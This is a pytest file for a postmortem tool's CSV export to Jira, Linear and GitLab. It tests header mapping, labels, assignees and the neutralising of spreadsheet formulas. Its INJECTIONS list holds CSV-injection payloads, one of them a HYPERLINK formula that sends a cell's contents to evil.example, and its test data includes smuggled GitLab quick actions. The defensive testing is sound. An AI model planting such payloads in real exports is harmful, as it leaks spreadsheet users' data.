"""The CSVs of `pmtui actions --format csv [--for jira|linear|gitlab]`: each tracker's own
headers and value forms, read back with Python's csv module, and every cell a spreadsheet
would evaluate neutralised (OWASP's CSV-injection rule), checked in LibreOffice where it
is installed."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from pmtui.domain import tracker
from pmtui.domain.tracker import ActionRow, neutralise, to_csv, to_tracker_csv

INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)",
              "\t=1+1", "\r=1+1"]


def row(n: int, title: str, **kw) -> ActionRow:
    values = {"review_slug": "2026-03-checkout", "review_title": "Checkout latency", "description": "", **kw}
    return ActionRow(n, 1, values.pop("review_slug"), values.pop("review_title"), title, **values)


ROWS = [
    row(1, "Alert when cache evictions exceed 5x baseline", description="Pages within minutes.\r\nSecond line",
        type="detect", owner="Payments team", priority="high", due="2026-04-30", review_tags=("cache", "sev 2")),
    row(2, "Validate cache limits at build time", owner="Platform team", type="prevent", priority="low"),
    row(3, "Document the rollback", description="/close\nthen /assign @someone", type="process",
        status="in_progress"),
]
OWNERS = {"Payments team": {"jira": "jdoe@example.com", "linear": "jdoe@example.com", "gitlab": "jdoe"}}


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell", INJECTIONS)
def test_a_cell_a_spreadsheet_would_evaluate_starts_with_a_quote(cell):
    assert neutralise(cell) == "'" + cell
    for kind in ("plain", "jira", "linear", "gitlab"):
        rows = [row(1, cell, description=cell, owner=cell)]
        text = to_csv(rows) if kind == "plain" else to_tracker_csv(rows, kind, {})
        back = read(text)
        assert len(back) == 2, (kind, text)  # a carriage return never splits the row
        assert back[1][0] == "'" + cell
        assert all(not c.startswith(tracker.FORMULA_START) for c in back[1]), (kind, back[1])


def test_plain_text_and_inner_signs_are_left_alone():
    for cell in ("Alert at 5%", "a=b", "e-mail", "", "user@example.com", "'quoted"):
        assert neutralise(cell) == cell


def test_carriage_returns_and_newlines_are_quoted():
    text = to_csv([row(1, "a\rb", description="c\nd")])
    assert '"a\rb"' in text and text.count("\r\n") >= 2
    assert read(text)[1][0] == "a\rb"


def test_jira_csv():
    unmapped: list[str] = []
    back = read(to_tracker_csv(ROWS, "jira", OWNERS, unmapped))
    header = back[0]
    assert header[:6] == ["Summary", "Issue Type", "Description", "Assignee", "Due date", "Priority"]
    assert header[6:] == ["Labels"] * 4  # one Labels column per label (postmortem, type, two tags)
    first = dict(zip(header[:6], back[1][:6]))
    assert first["Assignee"] == "jdoe@example.com" and first["Due date"] == "2026-04-30"
    assert first["Priority"] == "High" and first["Issue Type"] == "Task"
    assert back[1][6:] == ["postmortem", "detect", "cache", "sev-2"]  # Jira labels have no spaces
    assert back[2][6:] == ["postmortem", "prevent", "", ""]
    assert back[2][3] == "" and "Owner: Platform team (no jira account" in back[2][2]
    assert unmapped == ["Platform team"]
    assert "pmtui open 2026-03-checkout" in back[1][2]


def test_linear_csv():
    back = read(to_tracker_csv(ROWS, "linear", OWNERS))
    rows = [dict(zip(back[0], r)) for r in back[1:]]
    assert back[0] == ["Title", "Description", "Priority", "Status", "Assignee", "Labels", "Due Date"]
    assert rows[0]["Title"] == ROWS[0].title
    assert rows[0]["Labels"] == "postmortem, detect, cache, sev-2"  # Linear's importer splits on ", "
    assert [r["Priority"] for r in rows] == ["High", "Low", "Medium"]
    assert [r["Status"] for r in rows] == ["Todo", "Todo", "In Progress"]
    assert rows[0]["Assignee"] == "jdoe@example.com" and rows[1]["Assignee"] == ""
    assert rows[0]["Due Date"] == "2026-04-30"


def test_gitlab_csv():
    back = read(to_tracker_csv(ROWS, "gitlab", OWNERS))
    rows = [dict(zip(back[0], r)) for r in back[1:]]
    assert back[0] == ["title", "description", "due_date"]
    assert rows[0]["due_date"] == "2026-04-30" and rows[1]["due_date"] == ""
    lines = rows[0]["description"].splitlines()
    assert lines[-2:] == ["/label ~postmortem ~detect ~cache ~sev-2", "/assign @jdoe"]  # quick actions, a line each
    assert rows[1]["description"].splitlines()[-1] == "/label ~postmortem ~prevent"
    # the item's own words run no quick action
    assert "\\/close" in rows[2]["description"] and "\n/close" not in rows[2]["description"]


def test_the_command_writes_each_trackers_csv(cli, store, demo):
    import os as _os

    Path(_os.environ["PMTUI_CONFIG"]).write_text('[owners."Payments team"]\nlinear = "payments@example.com"\n')
    r = cli("actions", "--for", "linear")
    assert r.code == 0, r.err
    back = read(r.out)
    assert back[0][0] == "Title" and len(back) == 4  # the three open items of the example
    assert "payments@example.com" in {line[4] for line in back[1:]}
    assert "'Platform team' has no linear account" in r.err or "'Release engineering' has no linear account" in r.err
    r = cli("actions", "--for", "gitlab", "--format", "csv", "--status", "all")
    assert r.code == 0 and read(r.out)[0] == ["title", "description", "due_date"]
    r = cli("actions", "--for", "jira", "--format", "json")
    assert r.code == 2 and "writes CSV" in r.err


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


def test_libreoffice_finds_no_formula_in_the_injection_csv(tmp_path):
    exe = _soffice()
    if exe is None:
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui): the CSVs are checked "
                    "with the csv module only")
    rows = [row(i, cell, description=cell, owner=cell) for i, cell in enumerate(INJECTIONS, 1)]
    files = {"plain": to_csv(rows), **{k: to_tracker_csv(rows, k, {}) for k in ("jira", "linear", "gitlab")}}
    for name, text in files.items():
        (tmp_path / f"{name}.csv").write_text(text, encoding="utf-8", newline="")
    env = {**os.environ, "HOME": str(tmp_path)}  # a profile of its own
    subprocess.run([exe, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/profile",
                    "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path),
                    *(str(tmp_path / f"{n}.csv") for n in files)],
                   check=True, capture_output=True, timeout=180, env=env)
    for name in files:
        with zipfile.ZipFile(tmp_path / f"{name}.xlsx") as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
            shared = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in book.namelist() else ""
        assert "<f>" not in sheet and "<f " not in sheet, f"{name}: a formula in the sheet"
        assert "HYPERLINK" in shared and "evil.example" in shared, name  # kept as text
